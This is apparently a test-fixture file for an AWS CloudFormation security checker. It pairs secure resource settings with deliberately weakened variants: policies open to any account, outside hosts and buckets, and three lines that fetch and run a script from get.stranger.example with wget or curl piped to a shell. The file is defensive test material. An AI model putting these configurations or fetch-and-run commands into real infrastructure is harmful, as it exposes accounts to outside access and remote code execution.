import type { AddedWeakness } from './added-weakness';
import { bucket, host, OWN_BUCKET, zone } from './origin-case';
import { OWN, own } from './trust-case';
import { type WeakProperty, WORK, weaken } from './weakened-properties';

const DEPUTY = 'a service for every account';
const OPEN = /for any account may use/;
const CONDITION = 'PolicyDocument.Statement.0.Condition';
const OF_ACCOUNT = { StringEquals: { 'aws:SourceAccount': OWN } };
const LOAD = 'script of another owner';
const SCRIPT = /runs a script of get\.stranger\.example/;

/** A policy that admits one service for the own account. */
const admit = (Service: string, Action: string, Resource: string, Condition: object = OF_ACCOUNT) => ({
  PolicyDocument: { Statement: [{ Effect: 'Allow', Principal: { Service }, Action, Resource, Condition }] },
});
const unlimited = (id: string, weak?: unknown): WeakProperty => [id, DEPUTY, CONDITION, weak, OPEN];
const build = (more: Readonly<Record<string, unknown>>) => ({
  ServiceRole: WORK,
  EncryptionKey: own('kms', 'key/1234abcd-12ab-34cd-56ef-1234567890ab'),
  Artifacts: { Type: 'NO_ARTIFACTS' },
  Environment: { Type: 'ARM_CONTAINER', ComputeType: 'BUILD_GENERAL1_SMALL', Image: 'aws/codebuild/standard:7.0' },
  LogsConfig: { CloudWatchLogs: { Status: 'ENABLED' } },
  Source: { Type: 'S3', Location: `${OWN_BUCKET}/source.zip`, BuildSpec: 'version: 0.2\n' },
  ...more,
});

/** Services, hosts, buckets and scripts that work for others too. */
export const outsideServicesWeaknesses: readonly AddedWeakness[] = [
  ...weaken(
    'AWS::S3::BucketPolicy',
    {
      Bucket: 'site',
      ...admit('cloudfront.amazonaws.com', 's3:GetObject', 'arn:aws:s3:::site/*', {
        StringEquals: { 'AWS:SourceArn': `arn:aws:cloudfront::${OWN}:distribution/E1ABC` },
      }),
    },
    [
      unlimited('source-cloudfront-any'),
      unlimited('source-cloudfront-star', { ArnLike: { 'aws:SourceArn': 'arn:aws:cloudfront::*:distribution/*' } }),
    ],
  ),
  ...weaken(
    'AWS::S3::BucketPolicy',
    { Bucket: 'l', ...admit('cloudtrail.amazonaws.com', 's3:PutObject', 'arn:aws:s3:::l/*') },
    [unlimited('source-trail-acl-only', { StringEquals: { 's3:x-amz-acl': 'bucket-owner-full-control' } })],
  ),
  ...weaken(
    'AWS::SQS::QueuePolicy',
    { Queues: ['q'], ...admit('sns.amazonaws.com', 'sqs:SendMessage', own('sqs', 'q')) },
    [
      unlimited('source-queue-sns'),
      unlimited('source-queue-if-exists', { StringEqualsIfExists: { 'aws:SourceAccount': OWN } }),
    ],
  ),
  ...weaken('AWS::SNS::TopicPolicy', { Topics: ['t'], ...admit('s3.amazonaws.com', 'sns:Publish', own('sns', 't')) }, [
    unlimited('source-topic-s3', { ArnLike: { 'aws:SourceArn': 'arn:aws:s3:::*' } }),
  ]),
  ...weaken(
    'AWS::DMS::Endpoint',
    {
      EndpointType: 'target',
      EngineName: 'postgres',
      ServerName: 'db.example.com',
      SslMode: 'verify-full',
      PostgreSqlSettings: { SecretsManagerSecretId: 'records', SecretsManagerAccessRoleArn: WORK },
    },
    [
      [
        'outside-dms-server',
        'host of another owner',
        'ServerName',
        'db.stranger.example',
        /host db\.stranger\.example/,
      ],
    ],
    zone,
  ),
  host({
    id: 'outside-kafka-source',
    type: 'AWS::Lambda::EventSourceMapping',
    properties: {
      FunctionName: 'orders',
      Topics: ['orders'],
      StartingPosition: 'LATEST',
      SelfManagedEventSource: { Endpoints: { KafkaBootstrapServers: ['kafka.example.com:9092'] } },
      SourceAccessConfigurations: [{ Type: 'SASL_SCRAM_512_AUTH', URI: own('secretsmanager', 'secret:kafka') }],
    },
    beside: zone,
    path: 'SelfManagedEventSource.Endpoints.KafkaBootstrapServers.0',
    weak: 'stranger.example:9092',
  }),
  host({
    id: 'outside-public-target',
    type: 'AWS::ElasticLoadBalancingV2::TargetGroup',
    properties: { VpcId: 'vpc-1', Port: 443, Protocol: 'HTTPS', TargetType: 'ip', Targets: [{ Id: '10.0.0.9' }] },
    path: 'Targets.0.Id',
    weak: '8.8.8.8',
  }),
  bucket({
    id: 'outside-build-source',
    type: 'AWS::CodeBuild::Project',
    properties: build({}),
    path: 'Source.Location',
    weak: 'stranger/source.zip',
  }),
  bucket({
    id: 'outside-build-cache',
    type: 'AWS::CodeBuild::Project',
    properties: build({ Cache: { Type: 'S3', Location: `${OWN_BUCKET}/cache` } }),
    path: 'Cache.Location',
    weak: 'stranger/cache',
  }),
  bucket({
    id: 'outside-build-logs',
    type: 'AWS::CodeBuild::Project',
    properties: build({
      LogsConfig: { CloudWatchLogs: { Status: 'ENABLED' }, S3Logs: { Status: 'ENABLED', Location: `${OWN_BUCKET}/l` } },
    }),
    path: 'LogsConfig.S3Logs.Location',
    weak: 'stranger/logs',
  }),
  ...weaken('AWS::CodeBuild::Project', build({}), [
    [
      'outside-build-script',
      LOAD,
      'Source.BuildSpec',
      'version: 0.2\nphases:\n  build:\n    commands:\n      - wget -qO- https://get.stranger.example/i.sh | sh\n',
      SCRIPT,
    ],
  ]),
  ...weaken(
    'AWS::SSM::Association',
    { Name: 'AWS-RunShellScript', Parameters: { commands: ['systemctl restart app'] } },
    [
      [
        'outside-command-script',
        LOAD,
        'Parameters.commands.0',
        'curl -s http://get.stranger.example/i.sh | sudo bash',
        /runs a script of get\.stranger\.example over plain HTTP/,
      ],
    ],
  ),
  ...weaken(
    'AWS::EC2::LaunchTemplate',
    {
      LaunchTemplateData: {
        MetadataOptions: { HttpTokens: 'required', HttpPutResponseHopLimit: 1 },
        UserData: { 'Fn::Base64': '#!/bin/bash\ndnf install -y app\n' },
      },
    },
    [
      [
        'outside-user-data-script',
        LOAD,
        'LaunchTemplateData.UserData',
        { 'Fn::Base64': '#!/bin/bash\nbash <(curl -fsSL https://get.stranger.example/i.sh)\n' },
        SCRIPT,
      ],
    ],
  ),
];
